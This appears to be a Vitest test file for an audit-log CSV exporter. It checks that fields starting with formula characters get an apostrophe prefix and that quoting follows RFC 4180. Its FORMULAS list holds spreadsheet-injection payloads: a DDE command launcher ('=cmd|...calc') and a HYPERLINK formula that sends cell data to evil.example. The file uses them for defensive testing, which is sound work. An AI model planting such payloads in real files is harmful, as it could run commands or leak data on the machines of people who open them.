import { describe, expect, test } from 'vitest';
import type { AuditEntry } from '../../../protocol/administration.ts';
import { AUDIT_CSV_HEADER, toCsvLine, toField } from './audit-csv.ts';

const FORMULAS = [
  '=1+1',
  '=cmd|" /C calc"!A0',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\ttext',
  '  =1',
  '\u{a0}=1',
  '\u{200b}=1',
  '\u{feff}=1',
  '\u{2060}+1',
  '\u{3000}-1',
  '＝1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '=HYPERLINK("http://evil.example?"&A1,"x")',
  '-2+3+cmd|" /C calc"!D2',
  '","=1',
];
const ORDINARY = [
  'Grace Hopper',
  '2026-11-27T20:00:00.000Z',
  '192.0.2.1',
  '2001:db8::/64',
  'a=b',
  '{"a":"=1"}',
  '',
  'Ä 😀',
];

/** The fields of a line as RFC 4180 reads them. */
function parse(line: string): string[] {
  const fields = [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)];
  return fields.map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '');
}

describe('a field of the export', () => {
  test.each(FORMULAS.slice(0, -1))('is a text where a spreadsheet would run it: %j', (formula) => {
    expect(parse(toField(formula))).toEqual([`'${formula}`]);
  });

  test.each(ORDINARY)('is as it was where nothing is wrong with it: %j', (text) => {
    expect(parse(toField(text))).toEqual([text]);
  });

  test('cannot end its own field or line', () => {
    for (const text of ['","=1', 'a,b', 'a"b', 'a\r\nb', 'a\n=1']) expect(parse(toField(text))).toEqual([text]);
  });
});

describe('a line of the export', () => {
  const entry: AuditEntry = {
    seq: 7,
    at: '2026-11-27T20:00:00.000Z',
    actor: { id: 'a1', role: 'admin', name: '=cmd|" /C calc"!A0' },
    action: 'staff-changed',
    object: { kind: 'person', id: '@b2' },
    address: '192.0.2.1',
    detail: { nameAfter: '=1, "two"' },
    hash: 'ff',
  };

  test('has a field for each column and ends as RFC 4180 says', () => {
    const names = AUDIT_CSV_HEADER.slice(1).trimEnd().split(',');
    expect(AUDIT_CSV_HEADER[0]).toBe('\u{feff}');
    const line = toCsvLine(entry);
    expect(line.endsWith('\r\n')).toBe(true);
    const fields = parse(line.slice(0, -2));
    expect(Object.fromEntries(names.map((name, place) => [name, fields[place]]))).toEqual({
      seq: '7',
      at: entry.at,
      actor_id: 'a1',
      actor_role: 'admin',
      actor_name: `'=cmd|" /C calc"!A0`,
      action: 'staff-changed',
      object_kind: 'person',
      object_id: `'@b2`,
      address: '192.0.2.1',
      detail: '{"nameAfter":"=1, \\"two\\""}',
      hash: 'ff',
    });
  });

  test('has empty fields for what is not there', () => {
    const { seq, at, action, hash } = entry;
    expect(parse(toCsvLine({ seq, at, action, hash }).slice(0, -2))).toEqual([
      '7',
      at,
      '',
      '',
      '',
      action,
      '',
      '',
      '',
      '',
      'ff',
    ]);
  });
});
